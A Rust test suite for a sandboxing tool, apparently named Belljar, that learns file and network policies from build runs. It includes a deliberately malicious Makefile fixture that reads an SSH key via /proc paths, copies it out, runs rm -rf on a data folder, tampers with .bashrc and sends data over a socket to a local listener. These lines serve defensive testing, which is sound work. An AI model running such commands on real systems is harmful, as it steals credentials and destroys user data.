//! Learning: what a run lacked becomes a policy with which the same run passes, and nothing leaves the jar meanwhile.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "tests fail by panicking"
)]

mod seen;

use std::collections::BTreeMap;
use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};

use seen::{Seen, see};

const SECRET: &str = "the secret of the secrets folder";

/// A home folder with a project and a secret, outside of `/tmp`, which jars have of their own.
struct Home(PathBuf);

impl Home {
    fn new(files: &[(&str, &str)]) -> Self {
        static COUNT: AtomicU32 = AtomicU32::new(0);
        let name = format!("belljar-learn-{}-{}", std::process::id(), COUNT.fetch_add(1, Ordering::Relaxed));
        let home = Self(Path::new("/var/tmp").join(name));
        for (name, text) in [(".ssh/id_ed25519", SECRET)].iter().chain(files) {
            let path = home.0.join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        std::fs::create_dir_all(home.project()).unwrap();
        home
    }

    fn project(&self) -> PathBuf {
        self.0.join("project")
    }

    fn policy(&self) -> PathBuf {
        self.0.join("learned.toml")
    }

    fn at_home(&self, mut command: Command) -> Command {
        let path = "/usr/local/bin:/usr/bin:/bin";
        command.current_dir(self.project()).env("HOME", &self.0).env("PATH", path).env_remove("CARGO_HOME");
        command.env("SECRET", self.0.join(".ssh/id_ed25519"));
        command
    }

    fn belljar(&self, options: &[&str], command: &[&str]) -> Seen {
        see(&mut self.at_home(seen::command(options.iter().chain(&["--"]).chain(command))))
    }

    /// Learns into [`Self::policy`].
    fn learn(&self, options: &[&str], command: &[&str]) -> Seen {
        let file = self.policy();
        let save = ["learn", "--save", file.to_str().unwrap()];
        self.belljar(&[&save, options].concat(), command)
    }

    fn run_learned(&self, command: &[&str]) -> Seen {
        self.belljar(&["run", "-p", self.policy().to_str().unwrap()], command)
    }

    /// Every file with what it holds.
    fn files(&self) -> BTreeMap<PathBuf, Vec<u8>> {
        let mut found = BTreeMap::new();
        let mut folders = vec![self.project(), self.0.join(".ssh"), self.0.join("data")];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).into_iter().flatten() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path)
                } else {
                    drop(found.insert(path.clone(), std::fs::read(path).unwrap()))
                }
            }
        }
        found
    }
}

impl Drop for Home {
    fn drop(&mut self) {
        std::fs::remove_dir_all(&self.0).expect("the folder of the test");
    }
}

fn there(path: &Path) -> bool {
    path.symlink_metadata().is_ok()
}

/// The test is skipped by name where one of these programs is missing.
fn has(programs: &[&str]) -> bool {
    let missing = programs.iter().find(|name| !there(&Path::new("/usr/bin").join(name)));
    if let Some(need) = missing {
        let must = std::env::var("BELLJAR_MUST").unwrap_or_default();
        assert!(!must.split(',').any(|item| item == *need), "needs {need}");
        eprintln!("SKIP: needs {need}");
    }
    missing.is_none()
}

/// It fails without a rule, learning changes nothing, and with what was learned it passes and makes `result`.
fn learns(home: &Home, command: &[&str], result: &str) {
    let before = home.files();
    let without = home.belljar(&["run"], command);
    assert_ne!(without.status, 0, "it needs nothing to be learned: {without:?}");
    let taught = home.learn(&[], command);
    assert_eq!(taught.status, 0, "{taught:?}");
    assert_eq!(home.files(), before, "learning wrote to the host");
    let again = home.run_learned(command);
    assert_eq!(again.status, 0, "{}\n{again:?}", std::fs::read_to_string(home.policy()).unwrap());
    assert!(there(&home.project().join(result)), "{again:?}");
    // The rules are enough: learning under them finds no more.
    let more = home.belljar(&["learn", "-p", home.policy().to_str().unwrap()], command);
    assert!(more.err.contains("nothing has to be added"), "{more:?}");
}

#[test]
fn what_the_file_does_not_hold_and_what_no_rule_helps_with_is_told() {
    let home = Home::new(&[]);
    let taught = home.learn(&["-e", "CI=1", "-t", "1m", "-e", "X=2"], &["sh", "-c", "echo x > made"]);
    assert!(
        taught.err.contains("belljar: not in it: -e, -t; give them again when you run it\n"),
        "{taught:?}"
    );
    let failed = home.belljar(&["learn"], &["sh", "-c", "exit 3"]);
    assert_eq!(failed.status, 3, "{failed:?}");
    assert!(failed.err.contains("nothing has to be added"), "{failed:?}");
    assert!(failed.err.contains("hint: the program failed and lacked no rule"), "{failed:?}");
}

#[test]
fn make() {
    if !has(&["make", "gcc"]) {
        return;
    }
    let home = Home::new(&[
        ("project/Makefile", "prog: main.o words.o\n\tgcc -o $@ $^\n%.o: %.c\n\tgcc -c $<\n"),
        ("project/main.c", "int words(void);\nint main(void) { return words(); }\n"),
        ("project/words.c", "int words(void) { return 0; }\n"),
    ]);
    learns(&home, &["make"], "prog");
    assert!(home.run_learned(&["./prog"]).status == 0);
}

#[test]
fn cargo_build() {
    if !has(&["cargo", "rustc", "gcc"]) {
        return;
    }
    let home = Home::new(&[
        (
            "project/Cargo.toml",
            "[package]\nname = \"small\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[workspace]\n",
        ),
        ("project/src/main.rs", "fn main() {}\n"),
        ("project/build.rs", "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n"),
    ]);
    learns(&home, &["/usr/bin/cargo", "build", "--offline", "-q"], "target/debug/small");
}

#[test]
fn npm_run() {
    if !has(&["npm", "node"]) {
        return;
    }
    let home = Home::new(&[
        (
            "project/package.json",
            "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"build\":\"node build.js\"}}",
        ),
        (
            "project/build.js",
            "const fs = require('fs'); fs.mkdirSync('dist'); fs.writeFileSync('dist/out.js', '1');\n",
        ),
    ]);
    learns(&home, &["npm", "run", "build"], "dist/out.js");
}

#[test]
fn a_python_script_that_reads_elsewhere() {
    if !has(&["python3"]) {
        return;
    }
    let script = "import os\nbase = os.environ['HOME'] + '/data/'\n\
                  text = open(base + 'a').read() + open(base + 'b').read()\n\
                  open('cache/made', 'w').write(text)\nopen('log', 'a').write('x')\n";
    let files = [
        ("project/s.py", script),
        ("project/log", ""),
        ("project/cache/old", ""),
        ("data/a", "1"),
        ("data/b", "2"),
    ];
    let home = Home::new(&files);
    let before = home.files();
    // The first refusal ends the script: each lesson shows one step more.
    let first = home.belljar(&["learn"], &["python3", "s.py"]);
    assert_eq!(first.status, 1, "{first:?}");
    assert!(first.err.contains("--read-noexec ~/data/a") && first.err.contains("learn again"), "{first:?}");
    let second = home.learn(&["--read-noexec", "../data"], &["python3", "s.py"]);
    assert_eq!(second.status, 0, "{second:?}");
    assert_eq!(home.files(), before);
    let policy = std::fs::read_to_string(home.policy()).unwrap();
    assert!(policy.contains("\"./project/cache\" = \"write\"\n"), "{policy}");
    assert!(
        policy.contains("\"./project/log\" = \"write\"\n"),
        "one changed file is a rule of its own: {policy}"
    );
    let options =
        ["run", "-p", home.policy().to_str().unwrap(), "--read-noexec", "../data"].map(str::to_owned);
    let again = home.belljar(&options.each_ref().map(String::as_str), &["python3", "s.py"]);
    assert_eq!(again.status, 0, "{again:?}");
    assert_eq!(std::fs::read_to_string(home.project().join("cache/made")).unwrap(), "12");
}

/// A build that steals: prints the secret, copies it, and sends it to a listener outside.
const STEALING: &str = "all:
\t-cat $(SECRET)
\t-cat /proc/1/root/$(SECRET) /proc/self/root/$(SECRET)
\t-cp $(SECRET) loot
\t-echo evil >>$(HOME)/.bashrc; rm -rf $(HOME)/data; echo evil >$(HOME)/project/Makefile
\t-python3 -c \"import socket; socket.create_connection(('127.0.0.1', $(PORT)), 2).sendall(b'loot')\"
\ttouch built
";

/// What a thief could take or spoil, and a listener that it could tell.
struct Target(Home, TcpListener);

impl Target {
    fn new() -> Self {
        let home = Home::new(&[("project/Makefile", STEALING), (".bashrc", "mine"), ("data/a", "mine")]);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(home, listener)
    }

    fn harmed(&self) -> bool {
        let mine = |name: &str| std::fs::read_to_string(self.0.0.join(name)).is_ok_and(|text| text == "mine");
        !(mine(".bashrc") && mine("data/a"))
    }

    fn is_safe_after(&self, seen: &Seen) {
        assert_eq!(seen.status, 0, "{seen:?}");
        assert!(!seen.out.contains(SECRET) && !seen.err.contains(SECRET), "{seen:?}");
        assert_eq!(self.1.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "{seen:?}");
        assert!(!self.harmed() && !there(&self.0.project().join("loot")), "{seen:?}");
    }
}

#[test]
fn a_malicious_build_reads_no_secret_and_reaches_no_network_while_it_is_learned_from() {
    if !has(&["make", "python3"]) {
        return;
    }
    let target = Target::new();
    let Target(home, listener) = &target;
    let (secret, port) = (home.0.join(".ssh/id_ed25519"), listener.local_addr().unwrap().port());
    let words = [format!("SECRET={}", secret.display()), format!("PORT={port}")];
    let (command, before) = (["make", &words[0], &words[1]], home.files());

    let taught = home.learn(&[], &command);
    target.is_safe_after(&taught);
    assert_eq!(home.files(), before, "what it made is gone, and nothing else is");
    assert!(taught.err.contains("id_ed25519") && taught.err.contains("keys and passwords"), "{taught:?}");
    let policy = std::fs::read_to_string(home.policy()).unwrap();
    assert!(!policy.contains(".ssh") && !policy.contains("net") && !policy.contains("data"), "{policy}");

    // What was learned lets it build, and steal no more than before. The project is its own to spoil.
    target.is_safe_after(&home.run_learned(&command));
    assert!(there(&home.project().join("built")));
    std::fs::write(home.project().join("Makefile"), STEALING).unwrap();

    // Without Belljar the same build steals.
    let mut make = Command::new("make");
    make.args(&command[1..]);
    let control = home.at_home(make).output().unwrap();
    assert!(String::from_utf8_lossy(&control.stdout).contains(SECRET), "{control:?}");
    assert_eq!(std::fs::read_to_string(home.project().join("loot")).unwrap(), SECRET);
    assert!(listener.accept().is_ok() && target.harmed());
}

#[test]
fn a_file_that_is_there_is_not_overwritten_and_nothing_is_run() {
    let home = Home::new(&[("learned.toml", "mine")]);
    let seen = home.learn(&[], &["touch", "x"]);
    assert_eq!(seen.status, 125, "{seen:?}");
    assert_eq!(std::fs::read_to_string(home.policy()).unwrap(), "mine");
}

#[test]
fn a_run_that_lacks_nothing_says_so_and_makes_no_file() {
    let home = Home::new(&[]);
    let seen = home.learn(&[], &["true"]);
    assert_eq!((seen.status, seen.out.as_str()), (0, ""), "{seen:?}");
    assert!(seen.err.contains("nothing has to be added"), "{seen:?}");
    assert!(!there(&home.policy()));
}
